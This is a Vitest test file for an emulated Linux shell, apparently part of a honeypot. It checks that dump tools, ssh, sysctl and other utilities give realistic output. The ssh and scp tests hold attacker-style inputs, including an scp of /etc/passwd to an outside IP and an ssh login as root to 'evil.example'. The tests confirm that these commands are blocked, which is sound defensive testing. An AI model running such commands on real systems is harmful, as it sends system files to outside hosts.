import { describe, expect, it } from 'vitest';
import { testShell } from './testing.js';

const TEXT = 'hello world, this is a test of dumps\n';

describe('od, hexdump, xxd (layouts checked against coreutils 9, util-linux 2.38, xxd 2022)', () => {
  it('dumps text as the real tools do', async () => {
    const sh = testShell({ distro: 'ubuntu22' });
    sh.fs.writeFile('/tmp/in', Buffer.from(TEXT));
    expect((await sh.run('od /tmp/in')).stdout).toBe(
      '0000000 062550 066154 020157 067567 066162 026144 072040 064550\n' +
        '0000020 020163 071551 060440 072040 071545 020164 063157 062040\n' +
        '0000040 066565 071560 000012\n' +
        '0000045\n',
    );
    expect((await sh.run('od -c /tmp/in')).stdout).toBe(
      '0000000   h   e   l   l   o       w   o   r   l   d   ,       t   h   i\n' +
        '0000020   s       i   s       a       t   e   s   t       o   f       d\n' +
        '0000040   u   m   p   s  \\n\n' +
        '0000045\n',
    );
    expect((await sh.run('od -A x -t x1z /tmp/in')).stdout).toBe(
      '000000 68 65 6c 6c 6f 20 77 6f 72 6c 64 2c 20 74 68 69  >hello world, thi<\n' +
        '000010 73 20 69 73 20 61 20 74 65 73 74 20 6f 66 20 64  >s is a test of d<\n' +
        '000020 75 6d 70 73 0a                                   >umps.<\n' +
        '000025\n',
    );
    expect((await sh.run('hexdump -C /tmp/in')).stdout).toBe(
      '00000000  68 65 6c 6c 6f 20 77 6f  72 6c 64 2c 20 74 68 69  |hello world, thi|\n' +
        '00000010  73 20 69 73 20 61 20 74  65 73 74 20 6f 66 20 64  |s is a test of d|\n' +
        '00000020  75 6d 70 73 0a                                    |umps.|\n' +
        '00000025\n',
    );
    expect((await sh.run('hexdump /tmp/in')).stdout).toBe(
      '0000000 6568 6c6c 206f 6f77 6c72 2c64 7420 6968\n' +
        '0000010 2073 7369 6120 7420 7365 2074 666f 6420\n' +
        '0000020 6d75 7370 000a                         \n' +
        '0000025\n',
    );
    expect((await sh.run('xxd /tmp/in')).stdout).toBe(
      '00000000: 6865 6c6c 6f20 776f 726c 642c 2074 6869  hello world, thi\n' +
        '00000010: 7320 6973 2061 2074 6573 7420 6f66 2064  s is a test of d\n' +
        '00000020: 756d 7073 0a                             umps.\n',
    );
    const plain = (await sh.run('xxd -p /tmp/in')).stdout;
    expect(plain).toBe('68656c6c6f20776f726c642c207468697320697320612074657374206f66\n2064756d70730a\n');
    expect((await sh.run('xxd -r -p', plain)).stdout).toBe(TEXT);
  });

  it('squeezes repeated lines of a binary unless -v', async () => {
    const sh = testShell({ distro: 'debian12' });
    sh.fs.writeFile('/tmp/z', Buffer.alloc(64));
    expect((await sh.run('od -c /tmp/z')).stdout).toBe(
      '0000000  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0  \\0\n*\n0000100\n',
    );
    expect((await sh.run('hexdump -C /tmp/z')).stdout).toBe(
      '00000000  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|\n*\n00000040\n',
    );
    expect((await sh.run('od -v -An -t x1 -N 4 /bin/ls')).stdout).toBe(' 7f 45 4c 46\n');
  });
});

describe('ssh and scp', () => {
  it('cannot leave the decky', async () => {
    const sh = testShell({ distro: 'ubuntu22' });
    expect(await sh.run('ssh 198.51.100.4')).toEqual({
      stdout: '',
      stderr: 'ssh: connect to host 198.51.100.4 port 22: Connection timed out\r\n',
      status: 255,
    });
    expect((await sh.run('ssh -p 2222 root@evil.example')).stderr).toBe(
      'ssh: Could not resolve hostname evil.example: Temporary failure in name resolution\r\n',
    );
    expect((await sh.run('scp /etc/passwd root@198.51.100.4:/tmp')).stderr).toBe(
      'ssh: connect to host 198.51.100.4 port 22: Connection timed out\r\nscp: Connection closed\r\n',
    );
    expect(sh.fetches).toEqual([]);
  });

  it('asks about its own host key, with the fingerprint of the decky key', async () => {
    const sh = testShell({ distro: 'debian12' });
    const r = await sh.run('ssh localhost');
    expect(r.status).toBe(255);
    expect(r.stderr).toMatch(
      /^The authenticity of host 'localhost \(127\.0\.0\.1\)' can't be established\.\nED25519 key fingerprint is SHA256:[A-Za-z0-9+/]{43}\.\n[\s\S]*Host key verification failed\.\r\n$/,
    );
    expect((await sh.run('ssh -V')).stderr).toBe(
      'OpenSSH_9.2p1 Debian-2+deb12u3, OpenSSL 3.0.15 3 Sep 2024\n',
    );
  });
});

describe('sysctl, timeout, tac, rev, less, more', () => {
  it('reads /proc/sys by key, and lets only root write', async () => {
    const sh = testShell({ distro: 'ubuntu22' });
    expect((await sh.run('sysctl kernel.hostname')).stdout).toBe('kernel.hostname = web-01\n');
    expect((await sh.run('sysctl -n kernel.osrelease')).stdout).toBe('5.15.0-126-generic\n');
    expect((await sh.run('sysctl -a')).stdout).toContain('\nvm.swappiness = 60\n');
    expect((await sh.run('sysctl -w vm.swappiness=10')).stdout).toBe('vm.swappiness = 10\n');
    expect(await sh.run('sysctl foo.bar')).toMatchObject({
      stderr: 'sysctl: cannot stat /proc/sys/foo/bar: No such file or directory\n',
      status: 255,
    });
    const user = testShell({ distro: 'ubuntu22', user: 'ubuntu' });
    expect(await user.run('/usr/sbin/sysctl -w vm.swappiness=10')).toMatchObject({
      stderr: 'sysctl: permission denied on key "vm.swappiness"\n',
      status: 255,
    });
  });

  it('runs and reverses', async () => {
    const sh = testShell({ distro: 'debian12' });
    expect((await sh.run('timeout 5 id -u')).stdout).toBe('0\n');
    expect(await sh.run('timeout 5x id')).toMatchObject({ status: 125 });
    expect((await sh.run('tac', 'a\nb\nc\n')).stdout).toBe('c\nb\na\n');
    expect((await sh.run('rev', 'abc\n')).stdout).toBe('cba\n');
    expect((await sh.run('less /etc/hostname')).stdout).toBe('web-01\n');
    expect(await sh.run('more /nope')).toMatchObject({
      stderr: 'more: cannot open /nope: No such file or directory\n',
      status: 1,
    });
  });
});
